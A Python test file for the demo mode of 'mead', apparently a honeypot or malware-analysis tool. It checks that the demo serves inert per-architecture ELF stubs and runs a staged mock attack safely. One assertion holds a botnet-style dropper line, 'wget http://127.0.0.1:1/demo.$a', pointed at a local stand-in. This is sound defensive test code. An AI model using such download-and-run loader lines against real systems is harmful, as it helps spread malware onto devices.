# SPDX-License-Identifier: Apache-2.0
"""The demo: inert bodies, a directory of its own, and every stage in seconds."""

from __future__ import annotations

import io
import os
import struct
import zipfile
from pathlib import Path

import pytest

from mead.deck import demo
from mead.deck.settings import load_settings
from mead.errors import ConfigError


def test_its_programs_are_headers_around_a_sentence_that_no_machine_runs() -> None:
    served = demo.bodies("127.0.0.1:1")
    for name, order, machine in (("arm7", "<", 40), ("mips", ">", 8), ("x86", "<", 3)):
        body = served[f"/demo.{name}"]
        assert body.startswith(b"\x7fELF\x01")
        assert struct.unpack_from(f"{order}H", body, 18) == (machine,)
        (flags,) = struct.unpack_from(f"{order}I", body, 52 + 24)
        assert flags & 1 == 0  # PF_X: no page of it may be executed
        assert body.endswith(b"It does nothing.")
    assert b"wget http://127.0.0.1:1/demo.$a" in served["/bins.sh"]
    with zipfile.ZipFile(io.BytesIO(served["/kit.zip"])) as kit:
        assert kit.read("demo.x86") == served["/demo.x86"]


def test_an_earlier_demo_is_replaced_and_nothing_else(tmp_path: Path) -> None:
    settings, configuration = demo.prepare(tmp_path / 'd "x"')
    assert load_settings(configuration).data_dir == settings.data_dir
    (tmp_path / 'd "x"' / "left over").touch()
    demo.prepare(tmp_path / 'd "x"')
    assert not (tmp_path / 'd "x"' / "left over").exists()
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "file").touch()
    with pytest.raises(ConfigError, match="holds something else than a demo"):
        demo.prepare(tmp_path / "mine")
    assert (tmp_path / "mine" / "file").exists()


def test_a_place_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    with pytest.raises(ConfigError, match="Not a directory; give --directory"):
        demo.prepare(tmp_path / "file" / "demo")


async def test_the_attack_goes_through_every_stage(tmp_path: Path) -> None:
    said: list[str] = []
    outcome = await demo.play(tmp_path / "demo", said.append)
    assert [line[0] for line in said] == ["1", "2", "3", "4", "5"]
    assert (outcome.samples, outcome.sessions) == (6, 2)
    assert outcome.findings > 30
    kept = [path for path in (tmp_path / "demo" / "data" / "bodies").rglob("*") if path.is_file()]
    assert not [path for path in kept if os.access(path, os.X_OK) and path.stat().st_mode & 0o111]


async def test_an_analysis_that_does_not_come_about_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(demo, "_STAGE_SECONDS", 0.2)
    monkeypatch.setattr(demo, "_outcome", lambda *_: None)
    with pytest.raises(ConfigError, match=r"the analysis did not end within 0\.2 s; `mead check`"):
        await demo.play(tmp_path / "demo", lambda _: None)
